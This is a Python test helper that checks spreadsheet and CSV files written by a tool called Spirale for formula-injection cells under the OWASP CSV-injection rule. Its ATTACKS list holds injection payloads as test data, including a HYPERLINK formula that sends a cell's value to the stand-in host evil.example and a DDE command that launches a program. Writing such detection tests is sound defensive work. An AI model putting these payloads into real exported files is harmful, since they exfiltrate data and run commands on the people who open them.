"""Independent check of what Spirale wrote: which cells a spreadsheet would run as formulas or choke on.

Written from the OWASP CSV-injection rule, not from `scenario_lib.cells`, so the tests can catch that module.
"""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

TRIGGERS = "=+-@\t\r"
NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _live(value) -> bool:
    if not isinstance(value, str):
        return False
    return bool(CONTROL.search(value)) or (value[:1] in TRIGGERS and value != "" and not NUMBER.fullmatch(value))


def live_xlsx_cells(path) -> list[str]:
    """`sheet!A1 value` for every cell that is a formula, would start one, or holds a control character."""
    book = load_workbook(path)  # full mode: data_type is read from the file
    found = [
        f"{ws.title}!{c.coordinate} {c.value!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or _live(c.value)
    ]
    return found


def xlsx_texts(path) -> set[str]:
    book = load_workbook(path)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def live_csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
        for cell in row
        if _live(cell)
    ]


ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\tTAB=1+1",
    "Dupont\x00\x1b[31m",
]
